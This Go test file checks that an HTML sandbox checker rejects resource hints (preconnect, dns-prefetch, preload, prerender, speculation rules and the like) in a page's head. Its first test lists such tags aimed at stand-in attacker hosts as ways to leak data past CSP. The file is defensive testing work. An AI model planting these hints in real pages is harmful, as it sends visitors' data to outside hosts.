package htmlcheck

import (
	"slices"
	"strings"
	"testing"
)

// TestResourceHints: a page's own resource hints connect to hosts before
// any script runs, and CSP does not govern preconnect and dns-prefetch.
// Every row was accepted at fd5af59 (or rejected by another rule only).
func TestResourceHints(t *testing.T) {
	for _, head := range []string{
		`<link rel="preconnect" href="https://DATA.attacker.example/">`,
		`<link rel=dns-prefetch href=//leak.attacker.example>`,
		`<LINK REL="PreConnect" HREF="http://attacker.example:8080/">`,
		`<link rel="foo  PreConnect" href="https://attacker.example/">`,
		`<link rel="prefetch" href="https://attacker.example/x">`,
		`<link rel="prerender" href="https://attacker.example/x">`,
		`<link rel="next" href="https://attacker.example/page2">`,
		`<link rel="preload" as="image" href="https://img.attacker.example/a.png">`,
		`<link rel="preload" as="image" imagesrcset="https://img.attacker.example/a.png 1x">`,
		`<link rel="preload" as="fetch" href="https://attacker.example/x" crossorigin>`,
		`<link rel="modulepreload" href="https://attacker.example/m.js">`,
		`<link rel="preconnect" href="  https://attacker.example/  ">`,
		`<meta http-equiv="Link" content="<https://attacker.example>; rel=preconnect">`,
		`<meta http-equiv="link" content="<https://a.example/rel>; rel=&quot;dns-prefetch&quot;, <https://b.example>; rel=preload; as=image">`,
		`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://attacker.example/"]}]}</script>`,
	} {
		t.Run(head, func(t *testing.T) { checkHint(t, head) })
	}
}

// checkHint checks that a page with head in its <head> is rejected by
// sandbox.resource_hint.
func checkHint(t *testing.T, head string) {
	const top = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n"
	doc := strings.Replace(page("<p>x</p>"), top, top+head+"\n", 1)
	r := Check([]byte(doc), testOptions)
	if got := ruleNames(r.Errors); !slices.Contains(got, RuleSandboxResourceHint) {
		t.Errorf("%s: got errors %v, want %s", head, got, RuleSandboxResourceHint)
	}
}

// TestResourceHintsAllowed: links that are not resource hints keep their
// rules.
func TestResourceHintsAllowed(t *testing.T) {
	for _, body := range []string{
		`<link rel="icon" href="data:image/png;base64,iVBORw0KGgo=">`,
		`<link rel="canonical" href="https://example.com/page">`,
		`<link rel="alternate" hreflang="de" href="https://example.com/de">`,
		`<audio controls preload="none" src="https://media.example.com/a.mp3"></audio>`,
		`<meta http-equiv="content-type" content="text/html; charset=utf-8">`,
		`<a href="https://example.com/next" rel="next">Next page</a>`,
		`<script type="application/ld+json">{"@type":"WebPage","name":"prefetch preconnect"}</script>`,
	} {
		r := Check([]byte(page(body+"<p>x</p>")), testOptions)
		for _, f := range r.Errors {
			t.Errorf("%s: got %s: %s", body, f.Rule, f.Message)
		}
	}
}
